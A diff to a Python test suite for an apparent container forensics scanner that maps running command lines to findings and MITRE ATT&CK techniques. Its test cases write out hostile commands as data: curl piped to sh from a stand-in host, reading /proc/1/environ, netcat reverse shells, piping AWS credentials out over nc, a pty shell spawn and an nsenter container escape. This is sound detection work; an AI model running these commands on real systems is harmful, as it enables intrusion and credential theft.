@@ -432,7 +432,8 @@ def test_running_command_lines():
     cases = [
         (['sh', '-c', 'curl -s http://%s/x | sh' % host], 'KCSI-CMD-001', 'T1105'),
         (['sh', '-c', 'cat /proc/1/environ'], 'KCSI-CMD-003', 'T1552.001'),
-        (['python3', '-c', "import pty;pty.spawn('/bin/sh')"], 'KCSI-CMD-002', 'T1059.006'),
+        # a terminal faked with no network about (CI jobs do it): no finding
+        (['python3', '-c', "import pty;pty.spawn('/bin/sh')"], None, None),
         (['nc', '-e', '/bin/sh', host, '4444'], 'KCSI-CMD-002', 'T1059.004'),
         (['sh', '-c', 'chmod u+s /tmp/b; nsenter -t 1 -m sh'], 'KCSI-CMD-008', 'T1611'),
         (['sh', '-c', 'cat ~/.aws/credentials | nc %s 9' % host[:9]], 'KCSI-CMD-003', 'T1552.001'),
@@ -459,6 +460,12 @@ def test_running_command_lines():
     _set_argv(d, 1, ['sh', '-c', 'curl -s http://%s/x | sh; cat /proc/1/environ' % host])
     r = _analyze(d)
     eq([f['id'] for f in _find(r, 'KCSI-CMD-')], [], 'the entry command')
+    # nor the command an init (tini as pid 1) runs
+    d = _copy('revshell', 'cmdline-init')
+    _rename_file(d, '/usr/bin/dash', '/usr/bin/tini')
+    _set_argv(d, 14, ['sh', '-c', 'curl -s http://%s/x | sh' % host])
+    r = _analyze(d)
+    eq([f['id'] for f in _find(r, 'KCSI-CMD-') if 14 in _pids(f)], [], 'the command tini runs')
 
 
 # ---------------------------------------------------------------- shell history
@@ -586,6 +593,19 @@ def _scene(name):
 def _scene_report(name):
     arch, truth = _scene(name)
     return _analyze(arch), truth
+
+
+def test_lab_running_pty_shell_command_line():
+    """ptyshell-py: the python3 -c one-liner that connects out, dup2s the
+    socket and spawns a pty shell is still running at checkpoint time: its
+    command line is KCSI-CMD-002 on the relay's pid, with the one-liner as
+    evidence."""
+    r, truth = _scene_report('ptyshell-py')
+    relay = truth['facts']['relay'][0]
+    cmd = [f for f in _find(r, 'KCSI-CMD-002') if relay['pid'] in _pids(f)]
+    assert cmd, [(f['id'], f['title']) for f in r['findings']]
+    assert 'T1059.006' in cmd[0]['mitre'], cmd[0]
+    assert any('pty.spawn' in (e.get('excerpt') or '') for e in cmd[0]['evidence']), cmd[0]
 
 
 def test_lab_masq_interpreters_posing_as_daemons():
